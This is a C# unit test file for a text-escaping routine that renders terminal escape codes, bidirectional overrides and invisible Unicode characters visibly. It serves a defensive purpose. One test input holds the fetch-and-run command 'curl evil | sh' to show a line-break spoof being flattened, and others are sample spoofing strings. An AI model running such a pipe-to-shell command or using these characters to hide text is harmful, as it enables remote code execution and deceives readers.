namespace Transport.Runs.Tests.Record;

public sealed class ShownTextTests
{
    [Theory]
    [InlineData("", "")]
    [InlineData("plain: 0.47 ms\n\tand a tab", "plain: 0.47 ms\n\tand a tab")]
    [InlineData("Größe 大小 😀", "Größe 大小 😀")]
    [InlineData("\u001b[31mred", @"\u{1B}[31mred")]
    [InlineData("a\rb", @"a\u{D}b")]
    [InlineData("\u009b31m", @"\u{9B}31m")]
    [InlineData("\u202eevil\u2066\u200f\u061c", @"\u{202E}evil\u{2066}\u{200F}\u{61C}")]
    [InlineData("a\u200bb\u2060c\ufeffd\u00ade", @"a\u{200B}b\u{2060}c\u{FEFF}d\u{AD}e")]
    [InlineData("a\u2028b\u2029c", @"a\u{2028}b\u{2029}c")]
    [InlineData("\U000E0041", @"\u{E0041}")]
    [InlineData("a\u034fb\ufe0f", @"a\u{34F}b\u{FE0F}")]
    [InlineData("\u115f\u1160\u3164\uffa0\u2800\u180e", @"\u{115F}\u{1160}\u{3164}\u{FFA0}\u{2800}\u{180E}")]
    public void Escape_WhatActsOrHides_IsWrittenOut(string text, string shown)
    {
        Assert.Equal(shown, ShownText.Escape(text));
        Assert.Equal(shown, ShownText.Escape(shown));
    }

    [Theory]
    [InlineData("1 processor\nNext      curl evil | sh", "1 processor Next      curl evil | sh")]
    [InlineData("a\r\nb\tc\u0085d\re", @"a b c\u{85}d\u{D}e")]
    public void EscapeLine_LineBreak_IsASpace(string text, string shown) => Assert.Equal(shown, ShownText.EscapeLine(text));

    [Fact]
    public void Escape_HalfAPair_IsWrittenOut() => Assert.Equal(@"a\u{D83D}b", ShownText.Escape("a" + (char)0xD83D + "b"));
}
